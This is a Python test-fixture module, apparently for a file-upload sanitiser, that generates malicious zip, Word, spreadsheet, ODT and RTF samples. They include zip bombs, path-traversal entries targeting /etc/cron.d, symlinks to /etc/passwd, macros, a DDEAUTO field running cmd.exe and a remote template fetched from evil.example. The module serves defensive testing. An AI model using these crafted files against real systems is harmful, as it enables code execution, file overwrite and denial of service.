"""Bad folders in one file: zip files, Word files, sheets. Each says what it tries."""

import io
import re
import struct
import zipfile
from dataclasses import dataclass

from cast import good_files as good

PROGRAM = b"MZ\x90\x00\x03" + bytes(400)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
MACROS = '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'


@dataclass(frozen=True)
class Bad:
    """A bad file: what it tries, its name, its bytes. `never` must not be in what is kept, if anything is."""

    tries: str
    name: str
    data: bytes
    never: bytes = b""


def folders():
    inner = good.a_folder([("a.txt", bytes(2_000_000))])
    for _ in range(4):
        inner = good.a_folder([(f"{number}.zip", inner) for number in range(8)])
    yield Bad("a folder in a folder in a folder, ever larger", "photos.zip", inner)
    yield Bad("a folder that reaches outside", "photos.zip", good.a_folder([("../../etc/cron.d/x", b"* * * * *")]))
    link = zipfile.ZipInfo("word/link")
    link.external_attr = 0o120777 << 16
    yield Bad("a folder with a link out of it", "photos.zip", good.a_folder([(link, b"/etc/passwd")]))
    yield Bad(
        "a Word file with a link out of it",
        "report.docx",
        good.a_word_file(more=[(link, b"/etc/passwd")]),
        b"/etc/passwd",
    )
    yield Bad(
        "a Word file with a part outside", "report.docx", good.a_word_file(more=[("word/../../../evil", b"x")]), b"evil"
    )
    yield Bad("a Word file with a part on a drive", "report.docx", good.a_word_file(more=[("c:\\evil", b"x")]), b"evil")
    yield Bad("a tape", "photos.jpg", b"photo".ljust(257, b"\0") + b"ustar\x00" + bytes(300))
    yield Bad("other compressed folders", "a.rar", b"Rar!\x1a\x07\x01\x00" + bytes(50))
    yield Bad("a compressed file", "a.gz", b"\x1f\x8b\x08" + bytes(50))
    yield Bad(
        "a folder hidden behind text", "note.txt", b"Hello\n" + good.a_folder([("a.exe", PROGRAM)]), b"PK\x03\x04"
    )


def office():
    sheet = good.a_folder(
        [("[Content_Types].xml", "<Types/>"), ("xl/workbook.xml", "<w/>"), ("xl/sharedStrings.xml", b"a")]
    )
    yield Bad("a sheet that says it has 10 GB", "list.xlsx", _says_it_has(sheet, "xl/sharedStrings.xml", 4_294_967_294))
    yield Bad(
        "a Word file that says it has 4 GB",
        "report.docx",
        _says_it_has(good.a_word_file(), "word/document.xml", 4_294_967_294),
    )
    yield Bad(
        "a Word file that says less than it has",
        "report.docx",
        _says_it_has(good.a_word_file(more=[("word/a.xml", bytes(5_000_000))]), "word/a.xml", 10),
    )
    yield Bad(
        "a Word file that unpacks into 90 MB", "report.docx", good.a_word_file(more=[("word/a.xml", bytes(90_000_000))])
    )
    yield Bad(
        "a Word file with macros",
        "report.docm",
        good.a_word_file(
            more=[("word/vbaProject.bin", OLE)],
            types=MACROS,
        ),
    )
    yield Bad(
        "macros under another name",
        "report.docx",
        good.a_word_file(types=MACROS),
    )
    target = b'Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"'
    outside = b'<Relationships><Relationship Id="r1" ' + target + b"/></Relationships>"
    yield Bad(
        "a template fetched from outside",
        "report.docx",
        good.a_word_file(more=[("word/_rels/settings.xml.rels", outside)]),
        b"evil.example",
    )
    yield Bad(
        "the same, written in UTF-16",
        "report.docx",
        good.a_word_file(more=[("word/_rels/settings.xml.rels", outside.decode().encode("utf-16"))]),
        b"e\0v\0i\0l",
    )
    yield Bad(
        "a picture fetched from outside",
        "report.docx",
        good.a_word_file(more=[("word/_rels/document.xml.rels", outside.replace(b"attachedTemplate", b"image"))]),
        b"evil.example",
    )
    yield Bad(
        "a field that starts a program",
        "report.docx",
        good.a_word_file("x</w:t><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText><w:t>"),
        b"DDEAUTO",
    )
    yield Bad(
        "a Word file with a program inside",
        "report.docx",
        good.a_word_file(more=[("word/embeddings/oleObject1.bin", OLE + PROGRAM)]),
    )
    yield Bad(
        "a Word file that names itself a billion times",
        "report.docx",
        good.a_word_file('x</w:t></w:r></w:p></w:body></w:document><!DOCTYPE a [<!ENTITY b "b">]>'),
    )
    yield Bad(
        "a text document with macros",
        "letter.odt",
        good.an_odt(more=[("Basic/Standard/Module1.xml", b"Shell")]),
        b"Shell",
    )
    yield Bad("an old Word file", "letter.doc", OLE + bytes(2000))
    yield Bad("rich text with a program", "letter.rtf", b"{\\rtf1{\\object\\objocx" + b"00" * 90 + b"}}")
    yield Bad("a Word file cut off", "report.docx", good.a_word_file()[:-60])
    yield Bad("a Word file with a password", "report.docx", _locked(good.a_word_file()))


def _says_it_has(folder, part, size):
    """A folder in which one part says it has this many bytes, in both places where it says so."""
    with zipfile.ZipFile(io.BytesIO(folder)) as read:
        offset = read.getinfo(part).header_offset
    data = bytearray(folder)
    data[offset + 22 : offset + 26] = struct.pack("<I", size)
    listed = max(found.start() for found in re.finditer(re.escape(part.encode()), folder)) - 46
    data[listed + 24 : listed + 28] = struct.pack("<I", size)
    return bytes(data)


def _locked(folder):
    data = bytearray(folder)
    for found in re.finditer(rb"PK\x01\x02", folder):
        data[found.start() + 8] |= 1
    return bytes(data)
